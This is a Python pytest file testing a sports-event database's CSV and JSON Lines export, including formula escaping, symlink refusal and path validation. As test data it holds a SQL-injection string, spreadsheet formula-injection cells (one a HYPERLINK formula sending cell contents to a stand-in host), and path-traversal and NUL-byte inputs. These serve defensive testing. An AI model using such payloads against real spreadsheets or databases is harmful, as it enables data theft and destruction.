"""export_events: CSV and JSON Lines files on a real file system, and the path rules."""

from __future__ import annotations

import csv
import json
import os

import pytest

from restrike.host.errors import Conflict, InvalidArgument
from restrike.plugins.plugin_database.export import COLUMNS
from restrike.plugins.plugin_database.plugin import service_of

from .conftest import Feed, call, match_datagrams, store


@pytest.fixture
def loaded(db_app):
    store(service_of(db_app), Feed().events(
        match_datagrams() + ["pt1;9;", "wmh;Robert'); DROP TABLE pss_events_v2;--;2-0 PTF",
                             'at1;A "Quoted", Name;Long;FRA;']))
    return db_app


def all_events(app):
    return list(reversed(call(app, "get_events", {"limit": 1000})["events"]))


def test_csv_holds_every_selected_event_in_order(loaded, tmp_path):
    target = tmp_path / "events.csv"
    result = call(loaded, "export_events", None, "csv", str(target))
    expected = all_events(loaded)
    assert result == {"path": str(target), "rows": len(expected)}
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == list(COLUMNS)
    assert [r[COLUMNS.index("raw_data")] for r in rows[1:]] == [e["raw_data"] for e in expected]
    assert [int(r[0]) for r in rows[1:]] == [e["id"] for e in expected]


def test_jsonl_with_filters(loaded, tmp_path):
    target = tmp_path / "points.jsonl"
    result = call(loaded, "export_events", filters={"eventType": "points", "isValid": True},
                  format="jsonl", path=str(target))
    lines = [json.loads(line) for line in target.read_text(encoding="utf-8").splitlines()]
    assert result["rows"] == len(lines) == 3
    assert [line["raw_data"] for line in lines] == ["pt1;3", "pt2;2", "pt1;4"]
    assert set(lines[0]) == set(COLUMNS) and lines[0]["athlete"] == "blue"
    invalid = tmp_path / "invalid.jsonl"
    call(loaded, "export_events", {"isValid": False}, "jsonl", str(invalid))
    assert [json.loads(x)["raw_data"] for x in invalid.read_text().splitlines()] == ["pt1;9;"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_stay_text(db_app, tmp_path):
    hostile = ['=HYPERLINK("http://x.test/?"&A1;"click")', "+1+2", "-2+3", "@SUM(A1)",
               "\tpt1;3", "pt1;=1"]
    store(service_of(db_app), Feed().events([text + "\r\n" for text in hostile]))
    target = tmp_path / "events.csv"
    call(db_app, "export_events", None, "csv", str(target))
    with target.open(newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))[1:]
    raw = [r[COLUMNS.index("raw_data")] for r in rows]
    assert raw == ["'" + text for text in hostile[:5]] + ["pt1;=1"]
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    jsonl = tmp_path / "events.jsonl"
    call(db_app, "export_events", None, "jsonl", str(jsonl))
    exact = [json.loads(line)["raw_data"] for line in jsonl.read_text("utf-8").splitlines()]
    assert exact == hostile


def test_existing_file_is_kept_unless_overwrite(loaded, tmp_path):
    target = tmp_path / "events.csv"
    target.write_text("precious")
    with pytest.raises(Conflict) as err:
        call(loaded, "export_events", None, "csv", str(target))
    assert err.value.field == "path"
    assert target.read_text() == "precious"
    call(loaded, "export_events", None, "csv", str(target), True)
    assert target.read_text().startswith("id,timestamp")


def test_symlinks_are_never_followed(loaded, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    link = tmp_path / "link.csv"
    os.symlink(victim, link)
    for overwrite in (False, True):
        with pytest.raises(InvalidArgument, match="symbolic link") as err:
            call(loaded, "export_events", None, "csv", str(link), overwrite)
        assert err.value.field == "path"
    assert victim.read_text() == "precious" and link.is_symlink()
    dangling = tmp_path / "dangling.csv"
    os.symlink(tmp_path / "nowhere.csv", dangling)
    with pytest.raises(InvalidArgument):
        call(loaded, "export_events", None, "csv", str(dangling))
    assert not (tmp_path / "nowhere.csv").exists()


@pytest.mark.parametrize("path, fmt, field", [
    ("relative/events.csv", "csv", "path"),
    ("{tmp}/missing-dir/events.csv", "csv", "path"),
    ("{tmp}", "csv", "path"),
    ("", "csv", "path"),
    ("{tmp}/events.xlsx", "xlsx", "format"),
    ("{tmp}/a\x00b.csv", "csv", "path"),
    ("{tmp}/../events.csv", "csv", "path"),
    ("{tmp}/sub/../events.csv", "csv", "path"),
    ("{tmp}/" + "n" * 300 + ".csv", "csv", "path"),
    ("{tmp}/" + "d" * 300 + "/events.csv", "csv", "path"),
], ids=["relative", "missing-dir", "directory", "empty", "format", "nul-byte", "dotdot",
        "sub-dotdot", "name-too-long", "directory-name-too-long"])
def test_bad_targets_write_nothing(loaded, tmp_path, path, fmt, field):
    (tmp_path / "sub").mkdir()
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(InvalidArgument) as err:
        call(loaded, "export_events", None, fmt, path.format(tmp=tmp_path))
    assert err.value.field == field
    assert "Errno" not in err.value.message and "\x00" not in err.value.message
    assert sorted(tmp_path.rglob("*")) == before
    assert not (tmp_path.parent / "events.csv").exists()
